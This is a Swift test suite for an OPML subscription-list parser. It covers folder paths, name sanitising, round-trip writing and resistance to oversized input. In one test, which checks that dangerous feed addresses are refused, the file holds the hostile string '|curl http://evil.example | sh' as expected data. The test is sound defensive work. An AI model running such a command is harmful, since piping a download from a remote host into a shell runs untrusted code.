import FeedParsing
import Models
import Testing

@Suite struct OPMLTests {
  @Test func `folders and categories become sections`() throws {
    let outline = try #require(OPML.parse(try Fixture.bytes("opml-nested-folders.opml")))
    #expect(outline.title == "My & subscriptions")
    #expect(
      outline.feeds == [
        OPMLFeed(
          address: "https://peninsula.example/rss?a=1&b=2", title: "Peninsula Daily",
          siteURL: "https://peninsula.example/", sections: ["World/Asia", "Morning"]),
        OPMLFeed(address: "http://loose.example/feed", title: "Loose", sections: ["World"]),
        OPMLFeed(
          address: "http://cat.example/rss", title: "By category",
          sections: ["Tech/Chips", "Korea"]),
        OPMLFeed(address: "https://secure.example/atom", title: "Secure"),
      ])
  }

  @Test func `slashes in the names of folders make paths without empty names`() throws {
    let outline = try #require(
      OPML.parse(
        Array(
          """
          <opml><body><outline text="https://pe / x"><outline text="//"><outline text="a"
          xmlUrl="http://a.example/"/></outline></outline></body></opml>
          """.utf8)))
    #expect(outline.feeds.map(\.sections) == [["https:/pe/x"]])
  }

  @Test func `names of feeds and sections are one line without controls`() throws {
    let outline = try #require(
      OPML.parse(
        Array(
          """
          <opml><body><outline text="a&#x7F;b&#10;c&#x9B;"><outline text=" x&#x85;&#13; y"
          xmlUrl="http://a.example/" category="d&#x7F;"/></outline></body></opml>
          """.utf8)))
    #expect(outline.feeds.map(\.title) == ["x y"])
    #expect(outline.feeds.map(\.sections) == [["a b c", "d"]])
  }

  @Test func `a name of blanks and controls is none`() throws {
    let list = try #require(
      OPML.parse(
        Array(
          "<opml><body><outline text='\t&#11; \u{1F}' xmlUrl='http://b.example/'/></body></opml>"
            .utf8)))
    #expect(list.feeds.map(\.title) == [nil])
  }

  @Test func `deep and long paths are written and read again`() throws {
    let deep = (1...20).map { "level \($0)" }.joined(separator: "/")
    let feeds = [
      OPMLFeed(address: "http://a.example/", title: "A", sections: [deep, "level 1/level 2"])
    ]
    #expect(
      OPML.parse(Array(OPML.write(feeds: feeds).utf8))?.feeds.map { Set($0.sections) }
        == feeds.map { Set($0.sections) })
  }

  @Test func `a huge name of a folder is not copied into every feed`() throws {
    let name = String(repeating: "x", count: 1_000_000)
    let feeds = (0..<100).map { "<outline xmlUrl='http://a.example/\($0)'/>" }.joined()
    let text =
      "<opml><body><outline text='a'><outline text='\(name)'>\(feeds)</outline></outline></body></opml>"
    let outline = try #require(OPML.parse(Array(text.utf8)))
    #expect(outline.feeds.count == 100)
    #expect(outline.feeds.allSatisfy { $0.sections == ["a"] })
  }

  @Test func `a section that is folder and category is one`() throws {
    let text =
      "<opml><body><outline text='a'><outline xmlUrl='http://a.example/' category='/a,b,b'/></outline></body></opml>"
    let outline = try #require(OPML.parse(Array(text.utf8)))
    #expect(outline.feeds.map(\.sections) == [["a", "b"]])
  }

  @Test func `a feed in a thousand folders is in the first of them`() throws {
    let feeds = (0..<1000)
      .map { "<outline text='f\($0)'><outline xmlUrl='http://a.example/'/></outline>" }.joined()
    let outline = try #require(OPML.parse(Array("<opml><body>\(feeds)</body></opml>".utf8)))
    #expect(outline.feeds.map(\.sections.count) == [64])
  }

  @Test func `commands and files are refused, and said to be`() throws {
    let outline = try #require(OPML.parse(try Fixture.bytes("opml-nested-folders.opml")))
    #expect(
      outline.refused.map(\.reason) == [
        .runsProgram, .runsProgram, .runsProgram, .readsFile, .unknownScheme, .unknownScheme,
        .noAddress,
      ])
    #expect(outline.refused.first?.address == "|curl http://evil.example | sh")
  }

  @Test func `broken XML is read as far as it goes`() throws {
    let outline = try #require(OPML.parse(try Fixture.bytes("opml-broken.opml")))
    #expect(
      outline.feeds.map(\.address) == [
        "http://a.example/feed?x=1&y=2", "http://b.example/feed", "http://c.example/feed",
      ])
    #expect(outline.feeds.map(\.sections) == [[], ["Folder & more"], ["Folder & more"]])
  }

  @Test func `what is written is read back the same`() throws {
    let feeds = [
      OPMLFeed(
        address: "https://a.example/?x=\"1\"&y=<2>", title: "A & \"B\" <c>\n\u{1B}d 'e' 한",
        siteURL: "https://a.example/", sections: ["World/Asia", "Tech & more"]),
      OPMLFeed(address: "http://b.example/feed", title: "B", sections: []),
      OPMLFeed(address: "http://c.example/feed", title: "C", sections: ["World"]),
    ]
    let text = OPML.write(feeds: feeds, title: "T & t", created: Timestamp(0))
    #expect(text.contains("<dateCreated>1 Jan 1970 00:00:00 GMT</dateCreated>"))
    #expect(!text.unicodeScalars.contains("\u{1B}"))
    let outline = try #require(OPML.parse(Array(text.utf8)))
    #expect(outline.title == "T & t")
    #expect(outline.refused.isEmpty)
    let read = outline.feeds.sorted { $0.address < $1.address }
    #expect(
      read.map(\.address) == ["http://b.example/feed", "http://c.example/feed", feeds[0].address])
    #expect(read[2].title == "A & \"B\" <c> d 'e' 한")
    #expect(Set(read[2].sections) == Set(feeds[0].sections))
    #expect(read[1].sections == ["World"])
    #expect(read[0].sections == [])
  }

  @Test func `a hundred thousand folders end quickly`() throws {
    let deep = String(repeating: "<outline text='f'>", count: 100_000)
    let text = "<opml><body>\(deep)<outline xmlUrl='http://a.example/'/></body></opml>"
    #expect(OPML.parse(Array(text.utf8)) != nil)
  }

  @Test func `a feed or a page is no outline`() {
    #expect(OPML.parse(Array("<rss><channel/></rss>".utf8)) == nil)
    #expect(OPML.parse(Array("<html></html>".utf8)) == nil)
    #expect(OPML.parse([]) == nil)
  }

  @Test func `an outline is no feed`() throws {
    let bytes = try Fixture.bytes("opml-nested-folders.opml")
    #expect(FeedParser.parse(bytes, contentType: nil, address: nil) == nil)
  }
}
